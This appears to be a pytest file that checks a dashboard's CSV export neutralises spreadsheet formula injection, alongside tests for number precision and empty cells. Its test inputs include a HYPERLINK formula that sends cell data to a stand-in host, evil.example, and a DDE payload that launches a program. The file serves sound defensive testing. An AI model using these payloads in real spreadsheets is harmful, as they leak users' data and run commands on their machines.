"""A CSV file to take home holds the numbers in full and no formula."""

import csv
import io

import pandas as pd
import pytest

from topline.dashboard.spreadsheet import spreadsheet_csv


def only_cell(value: object) -> str:
    return list(csv.reader(io.StringIO(spreadsheet_csv(pd.DataFrame({"x": [value], "y": [1]})), newline="")))[1][0]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
        "  =1", "＝1+1", "--5", "-", "+49 30 1234",
    ],
)  # fmt: skip
def test_text_that_a_spreadsheet_would_run_stands_behind_an_apostrophe(text):
    assert only_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-8.6", "+3", "-1e-05", "68% (-3 to +2)", "a=b", "'quoted'", "因为", ""])
def test_numbers_and_other_text_stay_as_they_are(text):
    assert only_cell(text) == text


def test_numbers_keep_every_digit_and_missing_ones_stay_empty():
    written = spreadsheet_csv(pd.DataFrame({"difference": [0.684 - 0.77, None], "n": [1204, 12]}))
    assert written == f"difference,n\r\n{0.684 - 0.77!r},1204\r\n,12\r\n"


def test_a_list_is_one_cell_and_a_column_is_no_formula_either():
    frame = pd.DataFrame({"=reasons": [["=first.", "second."], []]})
    assert spreadsheet_csv(frame) == "'=reasons\r\n'=first. second.\r\n\"\"\r\n"
